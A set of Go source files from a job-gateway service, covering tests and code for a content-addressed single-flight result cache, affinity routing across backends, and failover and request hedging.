func req(body string) httpapi.JobRequest {
	var r httpapi.JobRequest
	if err := json.Unmarshal([]byte(body), &r); err != nil {
		panic(err)
	}
	return r
}

func TestCacheKeyCanonicalizesParams(t *testing.T) {
	a, okA := cacheKey(req(`{"type":"gate","seed":7,"params":{"gate":"TSX_XOR","random":4}}`))
	b, okB := cacheKey(req(`{"type":"gate","seed":7,"params":{  "random": 4, "gate": "TSX_XOR" }}`))
	if !okA || !okB {
		t.Fatal("seeded requests must be cacheable")
	}
	if a != b {
		t.Fatalf("key order / whitespace split identical jobs:\n%s\n%s", a, b)
	}
}

func TestCacheKeyDistinguishesResultShapingFields(t *testing.T) {
	base := `{"type":"gate","seed":7,"params":{"gate":"TSX_XOR"}}`
	k0, _ := cacheKey(req(base))
	for name, variant := range map[string]string{
		"seed":     `{"type":"gate","seed":8,"params":{"gate":"TSX_XOR"}}`,
		"type":     `{"type":"sha1","seed":7,"params":{"gate":"TSX_XOR"}}`,
		"params":   `{"type":"gate","seed":7,"params":{"gate":"TSX_AND"}}`,
		"attempts": `{"type":"gate","seed":7,"attempts":3,"params":{"gate":"TSX_XOR"}}`,
		"vote":     `{"type":"gate","seed":7,"attempts":3,"vote":2,"params":{"gate":"TSX_XOR"}}`,
	} {
		if k, ok := cacheKey(req(variant)); !ok || k == k0 {
			t.Errorf("%s variant did not change the key (ok=%v)", name, ok)
		}
	}
}

func TestCacheKeyRejectsUnseeded(t *testing.T) {
	// Without an explicit seed the backend derives a per-submission
	// sub-seed, so two submissions are different draws by design and
	// must never share a cache slot.
	if _, ok := cacheKey(req(`{"type":"gate","params":{"gate":"TSX_XOR"}}`)); ok {
		t.Fatal("unseeded request reported cacheable")
	}
	if _, ok := cacheKey(req(`{"seed":7}`)); ok {
		t.Fatal("untyped request reported cacheable")
	}
}

func TestCacheHitAndTTLExpiry(t *testing.T) {
	c := newResultCache(4, 1<<20, 50*time.Millisecond)
	now := time.Now()
	body, fl, leader := c.begin("k", now)
	if body != nil || !leader {
		t.Fatal("first lookup must make the caller the leader")
	}
	c.finish("k", fl, []byte("result"), now)

	if body, _, _ := c.begin("k", now.Add(10*time.Millisecond)); string(body) != "result" {
		t.Fatalf("fresh entry missed: %q", body)
	}
	body, fl2, leader := c.begin("k", now.Add(time.Second))
	if body != nil || !leader {
		t.Fatal("expired entry must re-elect a leader")
	}
	c.finish("k", fl2, nil, now)
	st := c.stats()
	if st.Hits != 1 || st.Expired != 1 {
		t.Fatalf("stats = %+v, want 1 hit and 1 expiry", st)
	}
}

func TestCacheEvictsByEntriesAndBytes(t *testing.T) {
	c := newResultCache(2, 1<<20, time.Minute)
	now := time.Now()
	for i := 0; i < 3; i++ {
		key := fmt.Sprintf("k%d", i)
		_, fl, _ := c.begin(key, now)
		c.finish(key, fl, []byte("v"), now.Add(time.Duration(i)))
	}
	if st := c.stats(); st.Entries != 2 || st.Evictions != 1 {
		t.Fatalf("entry bound: stats = %+v, want 2 entries, 1 eviction", st)
	}
	if body, _, _ := c.begin("k0", now); body != nil {
		t.Fatal("oldest entry survived the entry bound")
	}

	c = newResultCache(100, 10, time.Minute)
	for i := 0; i < 3; i++ {
		key := fmt.Sprintf("b%d", i)
		_, fl, _ := c.begin(key, now)
		c.finish(key, fl, make([]byte, 6), now)
	}
	if st := c.stats(); st.Bytes > 10 {
		t.Fatalf("byte bound exceeded: %+v", st)
	}
}

func TestCacheSingleFlightCollapses(t *testing.T) {
	c := newResultCache(4, 1<<20, time.Minute)
	now := time.Now()
	_, fl, leader := c.begin("k", now)
	if !leader {
		t.Fatal("want leadership on first begin")
	}

	const followers = 4
	var wg sync.WaitGroup
	got := make([]string, followers)
	for i := 0; i < followers; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			body, ffl, fLeader := c.begin("k", now)
			if fLeader || body != nil {
				t.Errorf("follower %d: leader=%v body=%q, want collapse", i, fLeader, body)
				return
			}
			<-ffl.done
			got[i] = string(ffl.body)
		}(i)
	}
	// Give followers a moment to park on the flight before publishing.
	time.Sleep(10 * time.Millisecond)
	c.finish("k", fl, []byte("voted"), now)
	wg.Wait()
	for i, g := range got {
		if g != "voted" {
			t.Fatalf("follower %d got %q, want the leader's bytes", i, g)
		}
	}
	if st := c.stats(); st.Collapsed != followers {
		t.Fatalf("collapsed = %d, want %d", st.Collapsed, followers)
	}
}

func TestCacheFailedLeaderReleasesFollowersEmptyHanded(t *testing.T) {
	c := newResultCache(4, 1<<20, time.Minute)
	now := time.Now()
	_, fl, _ := c.begin("k", now)
	done := make(chan []byte, 1)
	go func() {
		_, ffl, _ := c.begin("k", now)
		<-ffl.done
		done <- ffl.body
	}()
	time.Sleep(10 * time.Millisecond)
	c.finish("k", fl, nil, now)
	if body := <-done; body != nil {
		t.Fatalf("failed leader published %q", body)
	}
	if body, _, leader := c.begin("k", now); body != nil || !leader {
		t.Fatal("failure must not be cached")
	}
}
