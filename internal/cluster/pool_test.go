package cluster

import (
	"fmt"
	"testing"
	"time"
)

// staticPool builds a pool with no probe loop, for routing-policy
// tests that want full control of backend state.
func staticPool(states ...State) *Pool {
	p := &Pool{}
	for i, st := range states {
		p.backends = append(p.backends, &Backend{
			URL:   fmt.Sprintf("http://backend-%d", i),
			Index: i,
			state: st,
		})
	}
	return p
}

func TestPickIsStablePerKey(t *testing.T) {
	p := staticPool(StateUp, StateUp, StateUp)
	first := p.Pick("gate\xff7", nil)
	if first == nil {
		t.Fatal("Pick returned nil with three up backends")
	}
	for i := 0; i < 50; i++ {
		if got := p.Pick("gate\xff7", nil); got != first {
			t.Fatalf("iteration %d: key remapped from backend %d to %d with a stable pool",
				i, first.Index, got.Index)
		}
	}
}

func TestPickSpreadsAcrossKeys(t *testing.T) {
	p := staticPool(StateUp, StateUp, StateUp)
	seen := map[int]int{}
	for seed := 0; seed < 200; seed++ {
		b := p.Pick(fmt.Sprintf("gate\xff%d", seed), nil)
		seen[b.Index]++
	}
	for i := range p.backends {
		if seen[i] == 0 {
			t.Fatalf("backend %d never selected across 200 keys: %v", i, seen)
		}
	}
}

func TestPickExcludesAndFailsOver(t *testing.T) {
	p := staticPool(StateUp, StateUp)
	first := p.Pick("sha1\xff1", nil)
	second := p.Pick("sha1\xff1", map[int]bool{first.Index: true})
	if second == nil || second.Index == first.Index {
		t.Fatalf("exclusion did not move the key off backend %d", first.Index)
	}
	if b := p.Pick("sha1\xff1", map[int]bool{0: true, 1: true}); b != nil {
		t.Fatalf("all-excluded pick returned backend %d, want nil", b.Index)
	}
}

func TestPickSkipsDrainingAndDown(t *testing.T) {
	p := staticPool(StateUp, StateUp, StateUp)
	for seed := 0; seed < 50; seed++ {
		key := fmt.Sprintf("gate\xff%d", seed)
		victim := p.Pick(key, nil)
		victim.markDraining("test")
		if got := p.Pick(key, nil); got == victim {
			t.Fatalf("seed %d: key stayed on draining backend %d", seed, victim.Index)
		}
		victim.markUp()
	}
	// With every backend unroutable, desperation routing still returns
	// one: trying a draining backend beats refusing outright.
	for _, b := range p.backends {
		b.markDown("test")
	}
	if b := p.Pick("gate\xff1", nil); b == nil {
		t.Fatal("all-down pool refused to pick; want desperation fallback")
	}
}

func TestPickSkipsSheddingUntilWindowElapses(t *testing.T) {
	p := staticPool(StateUp, StateUp)
	key := "apt\xff3"
	victim := p.Pick(key, nil)
	victim.shed(50 * time.Millisecond)
	if victim.State() != StateShedding {
		t.Fatalf("state after shed = %q, want shedding", victim.State())
	}
	if got := p.Pick(key, nil); got == victim {
		t.Fatal("key stayed on shedding backend inside its Retry-After window")
	}
	time.Sleep(60 * time.Millisecond)
	if victim.State() != StateUp {
		t.Fatalf("state after window elapsed = %q, want up", victim.State())
	}
	if got := p.Pick(key, nil); got != victim {
		t.Fatalf("key did not return to backend %d after its shedding window", victim.Index)
	}
}

func TestWeightShiftsShareTowardFastBackends(t *testing.T) {
	p := staticPool(StateUp, StateUp)
	// Backend 0 reports second-scale latency, backend 1 is pristine.
	p.backends[0].observeLatency(time.Second)
	slow, fast := 0, 0
	for seed := 0; seed < 500; seed++ {
		switch p.Pick(fmt.Sprintf("gate\xff%d", seed), nil).Index {
		case 0:
			slow++
		default:
			fast++
		}
	}
	if fast <= slow {
		t.Fatalf("latency-weighted routing gave the 1s-EWMA backend %d/500 keys vs %d", slow, fast)
	}
}

func TestEWMAConverges(t *testing.T) {
	b := &Backend{}
	for i := 0; i < 100; i++ {
		b.observeLatency(20 * time.Millisecond)
	}
	b.mu.Lock()
	ew := b.ewma
	b.mu.Unlock()
	if ew < 0.015 || ew > 0.025 {
		t.Fatalf("EWMA after 100 samples of 20ms = %v, want ~0.020", ew)
	}
}

func TestNormalizeURL(t *testing.T) {
	for in, want := range map[string]string{
		"127.0.0.1:8081":         "http://127.0.0.1:8081",
		"http://host:1/":         "http://host:1",
		"https://host:2":         "https://host:2",
		"http://127.0.0.1:9////": "http://127.0.0.1:9",
	} {
		if got := normalizeURL(in); got != want {
			t.Errorf("normalizeURL(%q) = %q, want %q", in, got, want)
		}
	}
}
