package cluster

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"sync"
	"time"

	"uwm/internal/engine/httpapi"
)

// maxBodyBytes bounds a submission body, mirroring the backend's own
// bound so the gateway rejects at the edge what a backend would.
const maxBodyBytes = 1 << 20

// maxProxyResponseBytes bounds a proxied response body; flight
// recordings are the largest payloads and stay well under this.
const maxProxyResponseBytes = 64 << 20

// forwardedHeaders are the request headers the gateway propagates to
// the backend — the correlation ids that keep a flight recording
// reachable through the extra hop, plus content negotiation.
var forwardedHeaders = []string{"X-Request-Id", "Traceparent", "Content-Type", "Accept"}

// backendResponse is one proxied exchange's outcome.
type backendResponse struct {
	status  int
	header  http.Header
	body    []byte
	latency time.Duration
}

// forward proxies one request to a backend and buffers the response.
// Buffering (rather than streaming) is what makes hedging and caching
// possible: a response is only committed to the client after it won.
func (g *Gateway) forward(ctx context.Context, b *Backend, method, path string, body []byte, hdr http.Header) (*backendResponse, error) {
	var rd io.Reader
	if body != nil {
		rd = bytes.NewReader(body)
	}
	req, err := http.NewRequestWithContext(ctx, method, b.URL+path, rd)
	if err != nil {
		return nil, err
	}
	for _, h := range forwardedHeaders {
		if v := hdr.Get(h); v != "" {
			req.Header.Set(h, v)
		}
	}
	b.inflight.Add(1)
	defer b.inflight.Add(-1)
	start := time.Now()
	resp, err := g.cfg.Client.Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	rb, err := io.ReadAll(io.LimitReader(resp.Body, maxProxyResponseBytes))
	if err != nil {
		return nil, err
	}
	return &backendResponse{
		status:  resp.StatusCode,
		header:  resp.Header.Clone(),
		body:    rb,
		latency: time.Since(start),
	}, nil
}

// respond relays a backend (or cached) response to the client,
// carrying through the headers that matter across the hop.
func respond(w http.ResponseWriter, res *backendResponse) {
	for _, h := range []string{"Content-Type", "X-Trace-Decision", "Retry-After"} {
		if v := res.header.Get(h); v != "" {
			w.Header().Set(h, v)
		}
	}
	if w.Header().Get("Content-Type") == "" {
		w.Header().Set("Content-Type", "application/json")
	}
	w.WriteHeader(res.status)
	_, _ = w.Write(res.body)
}

// triedSet is the backend-exclusion set shared between a submission's
// failover loop and its hedge: no two racing attempts of one job may
// land on the same backend, and a backend that already failed the job
// is not retried.
type triedSet struct {
	mu  sync.Mutex
	set map[int]bool
}

func newTriedSet() *triedSet { return &triedSet{set: make(map[int]bool)} }

func (t *triedSet) add(i int) {
	t.mu.Lock()
	t.set[i] = true
	t.mu.Unlock()
}

func (t *triedSet) snapshot() map[int]bool {
	t.mu.Lock()
	defer t.mu.Unlock()
	out := make(map[int]bool, len(t.set))
	for k, v := range t.set {
		out[k] = v
	}
	return out
}

// affinityKey is the rendezvous-hash key: (job type, seed). Jobs of
// one family — same type, same seed lineage — keep landing on the same
// backend, whose workers' calibration state is warm for them.
func affinityKey(req httpapi.JobRequest) string {
	return req.Type + "\xff" + strconv.FormatUint(req.Seed, 10)
}

// failover runs one submission attempt with backend failover: pick by
// affinity, forward, and on a connectivity error / 503 / 429 mark the
// backend and move to the next until every backend was tried. The last
// shed-style response (429/503) is returned to the client when no
// backend accepts — the backends' own backpressure, passed through
// rather than masked.
func (g *Gateway) failover(ctx context.Context, path string, body []byte, affinity string, hdr http.Header, tried *triedSet) (*backendResponse, *Backend, error) {
	if tried == nil {
		tried = newTriedSet()
	}
	var lastRes *backendResponse
	var lastErr error
	for range g.pool.Backends() {
		if err := ctx.Err(); err != nil {
			return nil, nil, err
		}
		b := g.pool.Pick(affinity, tried.snapshot())
		if b == nil {
			break
		}
		tried.add(b.Index)
		res, err := g.forward(ctx, b, http.MethodPost, path, body, hdr)
		if err != nil {
			if ctx.Err() != nil {
				return nil, nil, err
			}
			b.markDown(err.Error())
			g.retries("unreachable").Inc()
			lastErr = err
			continue
		}
		switch res.status {
		case http.StatusServiceUnavailable:
			b.markDraining("submit 503")
			g.retries("draining").Inc()
			lastRes = res
			continue
		case http.StatusTooManyRequests:
			b.shed(parseRetryAfter(res.header.Get("Retry-After")))
			g.retries("shedding").Inc()
			lastRes = res
			continue
		}
		b.markUp()
		return res, b, nil
	}
	if lastRes != nil {
		return lastRes, nil, nil
	}
	if lastErr == nil {
		lastErr = fmt.Errorf("cluster: no backend available")
	}
	return nil, nil, lastErr
}

// parseRetryAfter reads a Retry-After seconds value, defaulting to 1s
// for absent or unparseable hints.
func parseRetryAfter(v string) time.Duration {
	if secs, err := strconv.Atoi(v); err == nil && secs > 0 {
		return time.Duration(secs) * time.Second
	}
	return time.Second
}

// raceResult is one racing attempt's outcome.
type raceResult struct {
	res    *backendResponse
	b      *Backend
	hedged bool
	err    error
}

// submitSync runs a synchronous submission with hedging: the primary
// attempt starts immediately; if it has not resolved within the job
// type's p95-derived delay and the hedge budget allows, a second
// attempt races on a backend the primary has not touched. The first
// success wins and the loser's context is canceled — its goroutine
// unwinds into the buffered channel, leaking nothing.
func (g *Gateway) submitSync(ctx context.Context, path string, body []byte, jobType, affinity string, hdr http.Header) (*backendResponse, *Backend, error) {
	g.hedge.earn()
	tried := newTriedSet()
	results := make(chan raceResult, 2)

	primCtx, cancelPrim := context.WithCancel(ctx)
	defer cancelPrim()
	hedgeCtx, cancelHedge := context.WithCancel(ctx)
	defer cancelHedge()

	launch := func(c context.Context, hedged bool) {
		res, b, err := g.failover(c, path, body, affinity, hdr, tried)
		results <- raceResult{res: res, b: b, hedged: hedged, err: err}
	}
	go launch(primCtx, false)

	outstanding := 1
	hedged := false
	var timer *time.Timer
	var timerC <-chan time.Time
	if g.hedge != nil && len(g.pool.Backends()) > 1 {
		timer = time.NewTimer(g.hedge.delay(jobType))
		defer timer.Stop()
		timerC = timer.C
	}

	var lastFail raceResult
	for {
		select {
		case <-ctx.Done():
			return nil, nil, ctx.Err()
		case <-timerC:
			timerC = nil
			if g.hedge.allow() {
				hedged = true
				outstanding++
				go launch(hedgeCtx, true)
			}
		case out := <-results:
			outstanding--
			won := out.err == nil && out.res != nil && out.res.status < http.StatusInternalServerError
			if !won {
				lastFail = out
				if outstanding > 0 {
					continue // the other attempt may still win
				}
				return lastFail.res, lastFail.b, lastFail.err
			}
			// Cancel the loser before answering; its forward unwinds
			// with a canceled context and parks its result in the
			// buffered channel.
			cancelPrim()
			cancelHedge()
			if hedged {
				g.hedge.recordOutcome(out.hedged)
			}
			if out.b != nil {
				out.b.observeLatency(out.latencyOrZero())
				g.hedge.observe(jobType, out.latencyOrZero())
			}
			return out.res, out.b, nil
		}
	}
}

func (r raceResult) latencyOrZero() time.Duration {
	if r.res == nil {
		return 0
	}
	return r.res.latency
}

// submit is POST /v1/jobs: cache/collapse sync submissions, route with
// affinity, hedge the tail, fail over on backend loss.
func (g *Gateway) submit(w http.ResponseWriter, r *http.Request) {
	g.requests.Inc()
	body, err := io.ReadAll(io.LimitReader(r.Body, maxBodyBytes+1))
	if err != nil {
		writeJSON(w, http.StatusBadRequest, errorBody{Error: "reading body: " + err.Error()})
		return
	}
	if len(body) > maxBodyBytes {
		writeJSON(w, http.StatusRequestEntityTooLarge, errorBody{Error: "body too large"})
		return
	}
	var req httpapi.JobRequest
	if len(body) > 0 {
		if err := json.Unmarshal(body, &req); err != nil {
			writeJSON(w, http.StatusBadRequest, errorBody{Error: "bad request JSON: " + err.Error()})
			return
		}
	}
	wait := req.Wait || r.URL.Query().Get("wait") == "1"
	reqID := r.Header.Get("X-Request-Id")
	affinity := affinityKey(req)

	if !wait {
		// Async submissions are pollable state on one specific backend:
		// no cache (the poll must see live status), no hedge (nothing
		// blocks), just affinity routing with failover.
		res, b, err := g.failover(r.Context(), "/v1/jobs", body, affinity, r.Header, nil)
		g.finishSubmit(w, res, b, reqID, err)
		return
	}

	path := "/v1/jobs?wait=1"
	key, cacheable := "", false
	if g.cache != nil {
		key, cacheable = cacheKey(req)
	}
	if !cacheable {
		res, b, err := g.submitSync(r.Context(), path, body, req.Type, affinity, r.Header)
		g.finishSubmit(w, res, b, reqID, err)
		return
	}

	cached, fl, leader := g.cache.begin(key, time.Now())
	switch {
	case cached != nil:
		w.Header().Set("X-Cache", "hit")
		respond(w, &backendResponse{status: http.StatusOK,
			header: http.Header{"Content-Type": []string{"application/json"}}, body: cached})
		return
	case !leader:
		// Collapsed onto an in-flight duplicate: wait for its leader.
		select {
		case <-fl.done:
		case <-r.Context().Done():
			writeJSON(w, http.StatusServiceUnavailable, errorBody{Error: r.Context().Err().Error()})
			return
		}
		if fl.body != nil {
			w.Header().Set("X-Cache", "collapsed")
			respond(w, &backendResponse{status: http.StatusOK,
				header: http.Header{"Content-Type": []string{"application/json"}}, body: fl.body})
			return
		}
		// The leader failed; run our own submission instead of
		// propagating its failure.
		res, b, err := g.submitSync(r.Context(), path, body, req.Type, affinity, r.Header)
		g.finishSubmit(w, res, b, reqID, err)
		return
	}

	// Leader: submit, publish the outcome to followers, cache success.
	res, b, err := g.submitSync(r.Context(), path, body, req.Type, affinity, r.Header)
	var publish []byte
	if err == nil && res != nil && res.status == http.StatusOK && jobDone(res.body) {
		publish = res.body
	}
	g.cache.finish(key, fl, publish, time.Now())
	if publish != nil {
		w.Header().Set("X-Cache", "miss")
	}
	g.finishSubmit(w, res, b, reqID, err)
}

// jobDone reports whether a sync response body is a terminal "done"
// snapshot — the only state worth caching (a 200 with a canceled or
// failed status must not poison repeats).
func jobDone(body []byte) bool {
	var snap struct {
		Status string `json:"status"`
	}
	return json.Unmarshal(body, &snap) == nil && snap.Status == "done"
}

// finishSubmit relays a submission outcome and records the job-id →
// backend route for later pass-through GETs.
func (g *Gateway) finishSubmit(w http.ResponseWriter, res *backendResponse, b *Backend, reqID string, err error) {
	if err != nil {
		g.noBackend.Inc()
		writeJSON(w, http.StatusServiceUnavailable, errorBody{Error: "no backend available: " + err.Error()})
		return
	}
	if b != nil {
		w.Header().Set("X-UWM-Backend", strconv.Itoa(b.Index))
		var snap struct {
			ID string `json:"id"`
		}
		if json.Unmarshal(res.body, &snap) == nil && snap.ID != "" {
			g.rememberRoute(b.Index, snap.ID, reqID)
		}
	}
	respond(w, res)
}

// passthrough proxies a GET to the backend that owns id (falling back
// to asking every backend when the route is unknown or forgotten).
// With an empty id, the first backend that answers non-404 wins —
// /v1/types is identical everywhere.
func (g *Gateway) passthrough(w http.ResponseWriter, r *http.Request, id, path string) {
	if q := r.URL.RawQuery; q != "" {
		path += "?" + q
	}
	candidates := g.pool.Backends()
	if id != "" {
		if idx, ok := g.route(id); ok && idx < len(candidates) {
			candidates = []*Backend{candidates[idx]}
		}
	}
	var lastErr error
	for _, b := range candidates {
		res, err := g.forward(r.Context(), b, http.MethodGet, path, nil, r.Header)
		if err != nil {
			lastErr = err
			continue
		}
		if res.status == http.StatusNotFound && len(candidates) > 1 {
			continue // another backend may own the id
		}
		w.Header().Set("X-UWM-Backend", strconv.Itoa(b.Index))
		respond(w, res)
		return
	}
	if lastErr != nil {
		writeJSON(w, http.StatusBadGateway, errorBody{Error: lastErr.Error()})
		return
	}
	writeJSON(w, http.StatusNotFound, errorBody{Error: "no backend knows this id"})
}

// listJobs merges GET /v1/jobs across every reachable backend into one
// array, each element as the backend rendered it.
func (g *Gateway) listJobs(w http.ResponseWriter, r *http.Request) {
	merged := []json.RawMessage{}
	for _, b := range g.pool.Backends() {
		res, err := g.forward(r.Context(), b, http.MethodGet, "/v1/jobs", nil, r.Header)
		if err != nil || res.status != http.StatusOK {
			continue
		}
		var page []json.RawMessage
		if json.Unmarshal(res.body, &page) == nil {
			merged = append(merged, page...)
		}
	}
	writeJSON(w, http.StatusOK, merged)
}
