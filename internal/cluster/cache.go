package cluster

import (
	"container/list"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"sync"
	"time"

	"uwm/internal/engine/httpapi"
)

// cacheKey derives the content address of a job submission. Jobs are
// deterministic given (type, payload, seed): every attempt reseeds the
// worker machine's noise stream from the job seed, so two submissions
// with the same key produce byte-identical voted results on any
// backend. The key therefore hashes the canonicalized request — params
// re-marshaled through a map so key order and whitespace don't split
// identical jobs — plus everything else that shapes the result bytes
// (seed, attempts, vote).
//
// A submission without an explicit seed is NOT cacheable: the backend
// derives its sub-seed from the engine's submission counter, so two
// such submissions are different draws by design.
func cacheKey(req httpapi.JobRequest) (string, bool) {
	if req.Seed == 0 || req.Type == "" {
		return "", false
	}
	params := any(nil)
	if len(req.Params) > 0 {
		if err := json.Unmarshal(req.Params, &params); err != nil {
			return "", false
		}
	}
	canon, err := json.Marshal(struct {
		Type     string `json:"type"`
		Params   any    `json:"params"`
		Seed     uint64 `json:"seed"`
		Attempts int    `json:"attempts"`
		Vote     int    `json:"vote"`
	}{req.Type, params, req.Seed, req.Attempts, req.Vote})
	if err != nil {
		return "", false
	}
	sum := sha256.Sum256(canon)
	return hex.EncodeToString(sum[:]), true
}

// flight is one in-flight leader a set of duplicate submissions
// collapsed onto. done closes when the leader finished; body is the
// leader's response bytes, nil when the leader's attempt failed (the
// followers then run their own submissions instead of caching a
// failure).
type flight struct {
	done chan struct{}
	body []byte
}

// cacheEntry is one stored result.
type cacheEntry struct {
	key   string
	body  []byte
	added time.Time
}

// resultCache is the single-flight, content-addressed result cache:
// an LRU bounded by entry count and total bytes, entries aged out by
// TTL, and an in-flight table that collapses concurrent duplicates
// onto one backend submission.
type resultCache struct {
	mu       sync.Mutex
	ttl      time.Duration
	maxEnt   int
	maxBytes int

	lru      *list.List // front = most recent
	index    map[string]*list.Element
	curBytes int
	inflight map[string]*flight

	hits, misses, collapsed, evictions, expired uint64
}

func newResultCache(maxEntries, maxBytes int, ttl time.Duration) *resultCache {
	return &resultCache{
		ttl:      ttl,
		maxEnt:   maxEntries,
		maxBytes: maxBytes,
		lru:      list.New(),
		index:    make(map[string]*list.Element),
		inflight: make(map[string]*flight),
	}
}

// begin resolves a key against the cache: a fresh entry returns its
// body (hit); an in-flight leader returns the flight to wait on
// (collapse); otherwise the caller becomes the leader and must call
// finish exactly once.
func (c *resultCache) begin(key string, now time.Time) (body []byte, fl *flight, leader bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if el, ok := c.index[key]; ok {
		ent := el.Value.(*cacheEntry)
		if now.Sub(ent.added) < c.ttl {
			c.lru.MoveToFront(el)
			c.hits++
			return ent.body, nil, false
		}
		c.removeLocked(el)
		c.expired++
	}
	if fl, ok := c.inflight[key]; ok {
		c.collapsed++
		return nil, fl, false
	}
	c.misses++
	fl = &flight{done: make(chan struct{})}
	c.inflight[key] = fl
	return nil, fl, true
}

// finish publishes the leader's outcome: a non-nil body is stored and
// handed to every collapsed follower; nil only releases the followers
// (they fall back to their own submissions).
func (c *resultCache) finish(key string, fl *flight, body []byte, now time.Time) {
	c.mu.Lock()
	delete(c.inflight, key)
	if body != nil {
		c.storeLocked(key, body, now)
	}
	c.mu.Unlock()
	fl.body = body
	close(fl.done)
}

func (c *resultCache) storeLocked(key string, body []byte, now time.Time) {
	if el, ok := c.index[key]; ok {
		c.removeLocked(el)
	}
	ent := &cacheEntry{key: key, body: body, added: now}
	c.index[key] = c.lru.PushFront(ent)
	c.curBytes += len(body)
	for (c.maxEnt > 0 && c.lru.Len() > c.maxEnt) ||
		(c.maxBytes > 0 && c.curBytes > c.maxBytes && c.lru.Len() > 1) {
		c.removeLocked(c.lru.Back())
		c.evictions++
	}
}

func (c *resultCache) removeLocked(el *list.Element) {
	ent := el.Value.(*cacheEntry)
	c.lru.Remove(el)
	delete(c.index, ent.key)
	c.curBytes -= len(ent.body)
}

// CacheStats is the cache's point-in-time accounting, served on
// GET /v1/cluster and mirrored into the gateway metrics.
type CacheStats struct {
	Entries   int    `json:"entries"`
	Bytes     int    `json:"bytes"`
	Hits      uint64 `json:"hits"`
	Misses    uint64 `json:"misses"`
	Collapsed uint64 `json:"collapsed"`
	Evictions uint64 `json:"evictions"`
	Expired   uint64 `json:"expired"`
	// HitRatio is hits/(hits+misses), 0 with no lookups yet.
	HitRatio   float64 `json:"hit_ratio"`
	TTLSeconds float64 `json:"ttl_seconds"`
}

func (c *resultCache) stats() CacheStats {
	if c == nil {
		return CacheStats{}
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	s := CacheStats{
		Entries:    c.lru.Len(),
		Bytes:      c.curBytes,
		Hits:       c.hits,
		Misses:     c.misses,
		Collapsed:  c.collapsed,
		Evictions:  c.evictions,
		Expired:    c.expired,
		TTLSeconds: c.ttl.Seconds(),
	}
	if n := s.Hits + s.Misses; n > 0 {
		s.HitRatio = float64(s.Hits) / float64(n)
	}
	return s
}
