package cluster

import (
	"encoding/json"
	"hash/fnv"
	"math"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"uwm/internal/metrics"
)

// State is a backend's routing eligibility, as decided by the last
// probe or by live traffic (a failed submission marks a backend before
// the prober confirms it).
type State string

const (
	// StateUnknown is the pre-first-probe state. The router treats it
	// as routable so a freshly started gateway does not black-hole
	// traffic while the first probe round is still in flight.
	StateUnknown State = "unknown"
	// StateUp means the last probe or live request succeeded.
	StateUp State = "up"
	// StateDraining means /healthz answered 503: the backend is
	// shutting down, or a quorum of its workers is unhealthy. Either
	// way it must not receive new jobs until a probe sees it recover.
	StateDraining State = "draining"
	// StateShedding means the backend recently answered 429; the
	// router skips it until its Retry-After hint has elapsed.
	StateShedding State = "shedding"
	// StateDown means the backend is unreachable.
	StateDown State = "down"
)

// ewmaAlpha is the smoothing factor of the per-backend latency EWMA:
// every new sample contributes 20%, so the estimate tracks a shifted
// latency regime within a handful of requests without whiplashing on
// one outlier.
const ewmaAlpha = 0.2

// ewmaRef is the latency at which a backend's routing weight halves.
// Weights are 1/(1+ewma/ewmaRef): a 50ms backend weighs half of an
// instant one, a 150ms backend a quarter — latency shifts share, it
// never hard-excludes.
const ewmaRef = 50 * time.Millisecond

// sloDegradedFactor is the weight multiplier applied while a backend
// reports an exhausted error budget on any SLO — route around a
// backend that is burning its budget, without abandoning it entirely.
const sloDegradedFactor = 0.5

// Backend is one uwm-serve instance the gateway fronts.
type Backend struct {
	// URL is the backend's base URL (scheme://host:port, no trailing
	// slash).
	URL string
	// Index is the backend's stable position in the pool; it labels
	// the backend's metrics and names it in /v1/cluster.
	Index int

	mu          sync.Mutex
	state       State
	lastErr     string
	lastProbe   time.Time
	ewma        float64 // seconds; 0 until the first sample
	shedUntil   time.Time
	sloDegraded bool

	inflight   atomic.Int64
	probes     atomic.Uint64
	probeFails atomic.Uint64
}

// State returns the backend's current routing state, resolving an
// elapsed shedding window back to its underlying state.
func (b *Backend) State() State {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.stateLocked(time.Now())
}

func (b *Backend) stateLocked(now time.Time) State {
	if b.state == StateUp && now.Before(b.shedUntil) {
		return StateShedding
	}
	return b.state
}

// routable reports whether the router may pick this backend: up (and
// not inside a shedding window) or not yet probed.
func (b *Backend) routable(now time.Time) bool {
	b.mu.Lock()
	defer b.mu.Unlock()
	st := b.stateLocked(now)
	return st == StateUp || st == StateUnknown
}

// weight is the backend's routing weight: inverse-latency via the
// EWMA, halved while the backend's SLO budget is exhausted. A backend
// with no samples yet weighs 1 (full share).
func (b *Backend) weight() float64 {
	b.mu.Lock()
	ew := b.ewma
	deg := b.sloDegraded
	b.mu.Unlock()
	w := 1.0
	if ew > 0 {
		w = 1 / (1 + ew/ewmaRef.Seconds())
	}
	if deg {
		w *= sloDegradedFactor
	}
	return w
}

// observeLatency folds one successful sync-request latency into the
// EWMA.
func (b *Backend) observeLatency(d time.Duration) {
	s := d.Seconds()
	b.mu.Lock()
	if b.ewma == 0 {
		b.ewma = s
	} else {
		b.ewma = (1-ewmaAlpha)*b.ewma + ewmaAlpha*s
	}
	b.mu.Unlock()
}

// markUp records a live success (probes also call it).
func (b *Backend) markUp() {
	b.mu.Lock()
	b.state = StateUp
	b.lastErr = ""
	b.mu.Unlock()
}

// markDown records an unreachable backend, from a probe or a failed
// live request — live traffic must not wait a probe interval to stop
// hitting a dead node.
func (b *Backend) markDown(err string) {
	b.mu.Lock()
	b.state = StateDown
	b.lastErr = err
	b.mu.Unlock()
}

// markDraining records a 503 — the backend refuses new jobs.
func (b *Backend) markDraining(reason string) {
	b.mu.Lock()
	b.state = StateDraining
	b.lastErr = reason
	b.mu.Unlock()
}

// shed opens a shedding window after a 429: the router skips the
// backend until the backend's own Retry-After hint has elapsed.
func (b *Backend) shed(retryAfter time.Duration) {
	b.mu.Lock()
	until := time.Now().Add(retryAfter)
	if until.After(b.shedUntil) {
		b.shedUntil = until
	}
	b.mu.Unlock()
}

// Pool is the probed backend set plus the routing policy over it.
type Pool struct {
	backends []*Backend
	interval time.Duration
	client   *http.Client

	stopOnce sync.Once
	stop     chan struct{}
	done     chan struct{}

